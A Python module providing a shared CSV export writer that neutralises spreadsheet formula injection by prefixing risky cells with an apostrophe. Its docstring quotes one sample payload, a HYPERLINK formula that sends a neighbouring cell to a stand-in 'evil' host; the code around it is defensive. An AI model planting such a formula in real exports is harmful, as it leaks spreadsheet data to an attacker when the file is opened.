"""The one CSV writer behind every export and download: review CSV, dashboard tables, `payoff metrics`.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage
return) as a formula: a name like ``=HYPERLINK("https://evil/?"&A1)`` would send a neighbouring cell away
when the file is opened. Such text is written with a leading apostrophe, which spreadsheets show as
text; numbers are written as they are, so ``-3.5`` stays a number.
"""

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """``value`` as a cell no spreadsheet evaluates."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def write(out: TextIO, columns: Sequence[str], records: Iterable[Mapping[str, Any]]) -> None:
    writer = csv.DictWriter(out, fieldnames=list(columns), lineterminator="\n")
    writer.writerow({c: cell(c) for c in columns})
    writer.writerows({k: cell(v) for k, v in record.items()} for record in records)


def records_csv(columns: Sequence[str], records: Iterable[Mapping[str, Any]]) -> bytes:
    out = io.StringIO()
    write(out, columns, records)
    return out.getvalue().encode()


def frame_csv(frame: pd.DataFrame) -> bytes:
    """A table as CSV (pandas' formatting of numbers, dates and missing values)."""
    safe = frame.map(cell).rename(columns=cell)
    return safe.to_csv(index=False, lineterminator="\n").encode()
